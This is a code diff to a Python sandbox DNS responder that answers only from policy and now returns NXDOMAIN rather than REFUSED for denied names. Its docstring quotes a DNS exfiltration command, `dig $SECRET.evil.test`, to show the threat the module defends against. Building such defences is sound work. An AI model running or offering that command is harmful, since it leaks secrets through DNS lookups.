@@ -1,7 +1,8 @@
 """DNS inside the jail: answered from the policy alone.
 
 No query ever leaves, so a name cannot carry data out (`dig $SECRET.evil.test`). A name that the policy could
-allow gets an address that stands for it; every other name is refused and put on record.
+allow gets an address that stands for it; of every other name we say that it does not exist, and put it on record.
+To say that we refuse would be more to the point, but programs take that for a server in trouble and try again.
 """
 
 from __future__ import annotations
@@ -144,7 +145,7 @@ class DnsDoor:
     def _refuse(self, query: Query, decision: Decision, note: str = "") -> Outcome:
         rule = decision.rule.text if decision.rule is not None else ""
         self._denials.add(DNS, query.name, PORT, type_name(query.qtype), decision.reason, rule=rule, note=note)
-        return Rcode.REFUSED, ()
+        return Rcode.NXDOMAIN if query.qclass == CLASS_IN else Rcode.REFUSED, ()
 
 
 def _name_of(query: Query) -> Name | None:
